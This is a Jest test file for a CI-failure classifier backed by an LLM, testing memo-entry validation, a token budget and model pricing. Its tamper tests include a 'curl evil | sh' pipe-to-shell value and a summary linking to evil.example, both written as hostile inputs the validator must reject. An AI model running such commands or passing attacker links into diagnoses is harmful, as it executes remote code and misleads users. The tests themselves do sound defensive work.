import { describe, expect, it } from '@jest/globals'
import { estimateRequestTokens, TokenBudget } from '../../../src/classify/llm/budget.js'
import { costUsd, priceOf } from '../../../src/classify/llm/cost.js'
import { diagnosisFromMemo, memoEntryFor, readMemoEntry, type MemoEntry } from '../../../src/classify/llm/memo.js'
import type { LlmVerdict } from '../../../src/classify/llm/types.js'
import { unsureRules } from './helpers.ts'

const verdict: LlmVerdict = {
  owner: 'DEVOPS',
  category: 'workflow_config',
  confidence: 0.75,
  transient: false,
  summary: 'The workflow uses actions/upload-artifact v3, which GitHub retired.',
  fix: { kind: 'upgrade-action', action: 'actions/upload-artifact', from_ref: 'v3' }
}

const key = { fingerprint: '55bac05e6bd11e69', model: 'openai/gpt-4o' }

function entry(): MemoEntry {
  return memoEntryFor({
    ...key,
    createdAt: new Date('2026-03-01T10:00:00Z'),
    verdict,
    usage: { promptTokens: 1200, completionTokens: 80, totalTokens: 1280 },
    suspectedInjection: false
  })
}

/** As it comes back from the state branch: JSON text, parsed. */
function stored(value: unknown): unknown {
  return JSON.parse(JSON.stringify(value))
}

describe('memo entries', () => {
  it('are plain snake_case JSON with a schema version', () => {
    expect(stored(entry())).toEqual({
      schema_version: 1,
      fingerprint: '55bac05e6bd11e69',
      model: 'openai/gpt-4o',
      created_at: '2026-03-01T10:00:00.000Z',
      verdict: { ...verdict },
      usage: { prompt_tokens: 1200, completion_tokens: 80, total_tokens: 1280 },
      suspected_injection: false
    })
  })

  it('round-trip through the branch into the same diagnosis the answer gave', () => {
    const rules = unsureRules()
    const used = diagnosisFromMemo(stored(entry()), key, rules, { stepName: 'Set up job' })
    expect(used).toMatchObject({ ok: true, fixDropped: null })
    if (!used.ok) return
    expect(used.diagnosis).toEqual({
      owner: 'DEVOPS',
      category: 'workflow_config',
      confidence: 0.75,
      transient: false,
      summary: verdict.summary,
      ruleId: null,
      engine: 'llm',
      evidence: rules.evidence,
      fix: {
        kind: 'upgrade-action',
        action: 'actions/upload-artifact',
        fromRef: 'v3',
        description: 'Upgrade actions/upload-artifact from v3 to a currently supported version.'
      }
    })
  })

  it.each<[string, (e: Record<string, any>) => unknown]>([
    ['not an object', () => 'memo'],
    ['a newer schema', (e) => ({ ...e, schema_version: 2 })],
    ['a category outside the vocabulary', (e) => ({ ...e, verdict: { ...e.verdict, category: 'pwned' } })],
    ['an owner the category does not have', (e) => ({ ...e, verdict: { ...e.verdict, owner: 'DEVELOPER' } })],
    ['an overlong summary', (e) => ({ ...e, verdict: { ...e.verdict, summary: 's'.repeat(5000) } })],
    ['a fix naming a file', (e) => ({ ...e, verdict: { ...e.verdict, fix: { kind: 'upgrade-action', action: '.github/workflows/ci.yml', from_ref: null } } })],
    ['an extra field', (e) => ({ ...e, run: 'curl evil | sh' })],
    ['a bad date', (e) => ({ ...e, created_at: 'yesterday' })],
    ['negative usage', (e) => ({ ...e, usage: { ...e.usage, total_tokens: -1 } })]
  ])('are ignored when they hold %s', (_, tamper) => {
    const tampered = tamper(stored(entry()) as Record<string, any>)
    expect(readMemoEntry(tampered)).toMatchObject({ ok: false, problem: expect.any(String) })
    expect(diagnosisFromMemo(tampered, key, unsureRules(), { stepName: null })).toMatchObject({ ok: false })
  })

  it('are ignored for another fingerprint or another model', () => {
    expect(diagnosisFromMemo(stored(entry()), { ...key, fingerprint: '0000000000000000' }, unsureRules(), { stepName: null })).toEqual({
      ok: false,
      problem: 'memo was made for another fingerprint'
    })
    expect(diagnosisFromMemo(stored(entry()), { ...key, model: 'openai/gpt-4o-mini' }, unsureRules(), { stepName: null })).toEqual({
      ok: false,
      problem: 'memo was made by another model'
    })
  })

  it('pass today\'s summary policy again, and their fix today\'s checks', () => {
    const hostile = { ...(stored(entry()) as MemoEntry), verdict: { ...verdict, summary: 'Fix: see https://evil.example now.' } }
    expect(diagnosisFromMemo(hostile, key, unsureRules(), { stepName: null })).toMatchObject({ ok: false, problem: expect.stringMatching(/a link/) })
    const timeout = memoEntryFor({
      ...key,
      createdAt: new Date(0),
      verdict: { ...verdict, category: 'job_timeout', fix: { kind: 'raise-timeout', observed_minutes: 20, step: 'Run e2e' } },
      usage: { promptTokens: 1, completionTokens: 1, totalTokens: 2 },
      suspectedInjection: true
    })
    const elsewhere = diagnosisFromMemo(stored(timeout), key, unsureRules(), { stepName: 'Run unit tests' })
    expect(elsewhere).toMatchObject({ ok: true, diagnosis: { category: 'job_timeout', fix: null }, fixDropped: expect.stringMatching(/other than the failing step/) })
  })
})

describe('TokenBudget', () => {
  it('allows what fits, charges what was used, and refuses what would exceed the rest', () => {
    const budget = new TokenBudget(1000)
    expect(budget.allows(1000)).toBe(true)
    budget.charge(700)
    expect(budget).toMatchObject({ used: 700, remaining: 300, limit: 1000 })
    expect(budget.allows(300)).toBe(true)
    expect(budget.allows(301)).toBe(false)
    budget.charge(500)
    expect(budget.remaining).toBe(0)
    expect(budget.allows(1)).toBe(false)
  })

  it('ignores nonsense charges and refuses nonsense limits', () => {
    const budget = new TokenBudget(10)
    budget.charge(Number.NaN)
    budget.charge(-5)
    expect(budget.used).toBe(0)
    expect(() => new TokenBudget(-1)).toThrow(RangeError)
    expect(() => new TokenBudget(1.5)).toThrow(RangeError)
  })

  it('estimates a request at or above what the text would cost at four characters a token', () => {
    const messages = [{ content: 'x'.repeat(3000) }, { content: 'y'.repeat(9000) }]
    const estimate = estimateRequestTokens({ messages, responseFormat: { type: 'text' }, maxCompletionTokens: 400 })
    expect(estimate).toBeGreaterThanOrEqual(12_000 / 4 + 400)
    expect(estimate).toBe(Math.ceil((12_000 + '{"type":"text"}'.length) / 3) + 8 + 3 + 400)
  })
})

describe('cost', () => {
  it('prices known models per million tokens, whatever the provider prefix or snapshot date', () => {
    const usage = { promptTokens: 1_000_000, completionTokens: 100_000, totalTokens: 1_100_000 }
    expect(costUsd('gpt-4o', usage)).toBe(3.5)
    expect(costUsd('openai/gpt-4o-2024-08-06', usage)).toBe(3.5)
    expect(costUsd('openai/gpt-4o-mini', usage)).toBeCloseTo(0.21, 6)
    expect(priceOf('openai/gpt-4.1-nano').known).toBe(true)
  })

  it('prices an unknown model like the default one, and says so', () => {
    expect(priceOf('meta-llama/llama-3.1-70b-instruct')).toEqual({ ...priceOf('gpt-4o'), known: false })
    expect(priceOf('constructor').known).toBe(false)
    expect(costUsd('mystery', { promptTokens: 2000, completionTokens: 100, totalTokens: 2100 })).toBe(0.006)
  })
})
